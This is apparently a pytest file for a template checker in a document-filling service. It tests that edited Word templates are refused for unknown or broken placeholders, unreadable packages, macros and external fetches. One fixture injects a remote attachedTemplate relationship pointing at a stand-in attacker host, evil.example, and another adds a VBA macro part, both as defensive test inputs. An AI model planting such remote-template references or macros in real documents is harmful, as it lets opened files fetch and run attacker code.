"""A template that somebody has changed serves only when documents can be made of it."""

import io
import zipfile
from collections.abc import Callable
from typing import Any

import pytest

from services.documents.checking import TemplateRefused, check, known_names
from services.documents.filling import Templates, filled, places
from services.documents.reading import blocks_of
from services.documents.sample import sample_facts
from tests.documents.test_filling import FACTS, SCAN, words
from workflows.issue.process import ISSUE
from workflows.kernel.process import Paper, Process
from workflows.registry import PROCESSES

EVERY = {process.name: process for process in PROCESSES.values()}
PAPERS = [(process, paper) for process in EVERY.values() for paper in process.papers]
RECEIPT = next(paper for paper in ISSUE.papers if paper.kind == "INTAKE_RECEIPT")
OURS = Templates().find("lanzhou_2021", "INTAKE_RECEIPT")


def changed(change: Callable[[dict[str, bytes]], None]) -> bytes:
    """Our receipt with other parts."""
    with zipfile.ZipFile(io.BytesIO(OURS)) as given:
        parts = {name: given.read(name) for name in given.namelist()}
    change(parts)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return out.getvalue()


def saying(text: str) -> bytes:
    """Our receipt with something else where its number is filled in."""

    def instead(parts: dict[str, bytes]) -> None:
        before = parts["word/document.xml"]
        parts["word/document.xml"] = before.replace(b"{{ paper.number }}", text.encode(), 1)
        assert parts["word/document.xml"] != before

    return changed(instead)


def fetching(parts: dict[str, bytes]) -> None:
    """Let it fetch a template from elsewhere when it is opened."""
    name = "word/_rels/document.xml.rels"
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    one = f'<Relationship Id="rX" Type="{kind}" Target="http://evil.example/x.dotm" TargetMode="External"/>'
    parts[name] = parts[name].replace(b"</Relationships>", one.encode() + b"</Relationships>")


def looked_at(template: bytes) -> bytes:
    facts = sample_facts(ISSUE, RECEIPT, pack="lanzhou_2021", address=SCAN)
    return check(template, known_names([ISSUE]), facts)


@pytest.mark.parametrize(("process", "paper"), PAPERS, ids=lambda one: getattr(one, "kind", getattr(one, "name", "")))
def test_every_template_of_ours_names_only_what_its_documents_know(process: Process[Any], paper: Paper) -> None:
    users = [one for one in EVERY.values() if any(own.kind == paper.kind for own in one.papers)]
    facts = sample_facts(process, paper, pack="lanzhou_2021", address=SCAN)

    text = words(blocks_of(check(Templates().find("lanzhou_2021", paper.kind), known_names(users), facts))[0])

    assert f"SAMPLE-1-{paper.kind}-1" in text
    assert "{" not in text
    assert "['" not in text


@pytest.mark.parametrize(
    ("text", "why", "what"),
    [
        ("{{ data.projct.budget }}", "UNKNOWN", "data.projct"),
        ("{{ place.commuinty }}", "UNKNOWN", "place.commuinty"),
        ("{{ data['reporter'] }}", "UNKNOWN", "data.reporter"),
        ("{{ weather }}", "UNKNOWN", "weather"),
        ("{% for one in range(9) %}{{ one }}{% endfor %}", "UNKNOWN", "range"),
        ("{{ paper.number | shout }}", "UNKNOWN", "|shout"),
        ("{{ paper.number * 1000000000 }}", "COUNTS", ""),
        ("{% if data.lead_org %}", "BROKEN", ""),
        ("{{ paper.number", "BROKEN", ""),
    ],
)
def test_what_nobody_could_fill_in_is_refused_by_its_name(text: str, why: str, what: str) -> None:
    with pytest.raises(TemplateRefused) as refused:
        looked_at(saying(text))

    assert refused.value.why == why
    assert what in refused.value.what


def empty(parts: dict[str, bytes]) -> None:
    """Take the text out of it."""
    del parts["word/document.xml"]


@pytest.mark.parametrize("content", [b"PK\x03\x04 no package", changed(empty)])
def test_what_is_no_document_is_refused(content: bytes) -> None:
    with pytest.raises(TemplateRefused, match="UNREADABLE"):
        looked_at(content)


def test_a_template_brings_no_macros_and_fetches_nothing() -> None:
    for change in (fetching, lambda parts: parts.update({"word/vbaProject.bin": b"x"})):
        with pytest.raises(TemplateRefused, match="FETCHES"):
            looked_at(changed(change))


def test_names_of_its_own_and_loops_are_let_through() -> None:
    text = "{% set all = data.helper_orgs %}{% for one in all %}{{ loop.index }}{{ one }}{% endfor %}{{ note.text }}"

    assert "1〔协办单位〕2〔协办单位〕〔说明〕" in words(blocks_of(looked_at(saying(text)))[0])


def test_several_of_something_are_written_in_a_row() -> None:
    facts = {**FACTS, "paper": {**FACTS["paper"], "number": ["甲", "乙<"]}}

    assert "甲、乙<" in words(blocks_of(filled(OURS, facts, scan=SCAN))[0])


def test_what_was_put_there_by_hand_goes_before_everything_else() -> None:
    put = {("default_2026", "INTAKE_RECEIPT"): b"of all packs", ("drill", "GENERAL"): b"general"}

    assert places("drill", "INTAKE_RECEIPT")[:2] == (("drill", "INTAKE_RECEIPT"), ("default_2026", "INTAKE_RECEIPT"))
    assert Templates().find("drill", "INTAKE_RECEIPT", put) == b"of all packs"
    assert Templates().find("drill", "NEVER_HEARD_OF", put) == b"general"
    assert Templates().source("drill", "INTAKE_RECEIPT", put) == "PUT"
    assert Templates().source("drill", "MINUTES", put) == "SHIPPED"
